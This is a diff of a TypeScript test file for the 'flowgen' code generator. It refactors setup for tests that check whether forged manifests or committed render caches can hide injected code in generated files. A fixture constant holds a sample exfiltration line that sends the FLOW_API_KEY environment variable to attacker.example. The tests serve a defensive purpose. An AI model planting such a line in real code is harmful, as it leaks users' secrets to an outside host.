@@ -1,32 +1,38 @@
 import { execFile } from "node:child_process";
 import { createHash } from "node:crypto";
-import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
-import { tmpdir } from "node:os";
+import { cp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { promisify } from "node:util";
-import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
+import { describe, expect, it, vi } from "vitest";
 import { check, generate } from "../src/api/generate.js";
 import { MANIFEST_PATH, type OutputManifest } from "../src/manifest/output-manifest.js";
 import { runCli } from "./helpers/run-cli.js";
-import { REPO_ROOT, tempProject, writeFiles } from "./helpers/temp-dir.js";
+import {
+  copyProject,
+  REPO_ROOT,
+  sharedProject,
+  tempProject,
+  writeFiles,
+} from "./helpers/temp-dir.js";
 
 const run = promisify(execFile);
 const CACHE_DIR = "node_modules/.cache/flowgen";
 const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';
 
+/** The repo's flows the author's project holds. */
+const FLOWS = ["@acme/qa.json", "@acme/search.json"];
+
 /**
- * The repo's specs, generated with the default render cache: the author's machine. Made once for
- * the file; tests read it, and work on copies.
+ * Two of the repo's flows, generated with the default render cache: the author's machine. Made
+ * once for the file; tests read it, and work on copies.
  */
-let author = "";
-beforeAll(async () => {
-  author = await mkdtemp(path.join(tmpdir(), "flowgen-author-"));
-  await writeFiles(author, { "package.json": { name: "consumer", private: true } });
-  await cp(path.join(REPO_ROOT, "specs"), path.join(author, "specs"), { recursive: true });
-  const result = await generate({ cwd: author, config: false });
+const authorsProject = sharedProject(async (dir) => {
+  await writeFiles(dir, { "package.json": { name: "consumer", private: true } });
+  for (const flow of FLOWS)
+    await cp(path.join(REPO_ROOT, "specs", flow), path.join(dir, "specs", flow));
+  const result = await generate({ cwd: dir, config: false });
   if (!result.ok) throw new Error(JSON.stringify(result.issues));
 });
-afterAll(() => rm(author, { recursive: true, force: true }));
 
 /** What a reviewer's machine or CI checks out: the committed files only (no node_modules, so no render cache). */
 async function freshClone(from: string): Promise<string> {
@@ -66,6 +72,7 @@ async function injectWithForgedManifest(dir: string): Promise<void> {
 
 describe("the committed manifest is no evidence of what generated/ holds", () => {
   it("a forged manifest on a fresh clone: --check exits 1 naming the file, and generate repairs it", async () => {
+    const author = await authorsProject();
     const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
     const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
@@ -83,7 +90,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("as a process, in CI: `flowgen generate --check` exits 1 on the forgery", async () => {
-    const clone = await freshClone(author);
+    const clone = await freshClone(await authorsProject());
     await injectWithForgedManifest(clone);
     const bin = path.join(REPO_ROOT, "bin/flowgen.js");
     const failed = await run(process.execPath, [bin, "generate", "--check"], { cwd: clone }).then(
@@ -95,6 +102,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("a render cache committed into the project is not taken as this machine's", async () => {
+    const author = await authorsProject();
     const clone = await freshClone(author);
     await injectWithForgedManifest(clone);
     // The forger also commits a cache (git add -f) whose entries hold the injected client, with
@@ -131,6 +139,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("this machine's own index over a pack with other bytes in a value's place gives that value no credit", async () => {
+    const author = await authorsProject();
     const clone = await freshClone(author);
     const pristine = await readFile(path.join(author, "generated/@acme/qa.ts"), "utf8");
     const { indexText, index, pack } = await readCache(author);
@@ -150,6 +159,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("a forged manifest cannot make generate skip the checks of a spec", async () => {
+    const author = await authorsProject();
     const clone = await freshClone(author);
     // A spec edit the checks refuse, recorded in the manifest as if flowgen had checked it.
     const spec = path.join(clone, "specs/@acme/qa.json");
@@ -167,7 +177,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
   });
 
   it("--trust-manifest is the opt-in fast path: it takes the manifest's word, forgery included", async () => {
-    const clone = await freshClone(author);
+    const clone = await freshClone(await authorsProject());
     await injectWithForgedManifest(clone);
     const trusting = await runCli(clone, "generate", "--check", "--trust-manifest");
     expect(trusting.code).toBe(0);
@@ -184,8 +194,7 @@ describe("the committed manifest is no evidence of what generated/ holds", () =>
 
   it("a cache this machine wrote is reused; with the machine's secret inside the project, none is", async () => {
     // The author's machine: the whole project, with the render cache its run left.
-    const own = await tempProject({});
-    await cp(author, own, { recursive: true });
+    const own = await copyProject(await authorsProject());
     const stages = async () => {
       const run = await runCli(own, "generate", "--check", "--verbose");
       expect(run.code).toBe(0);
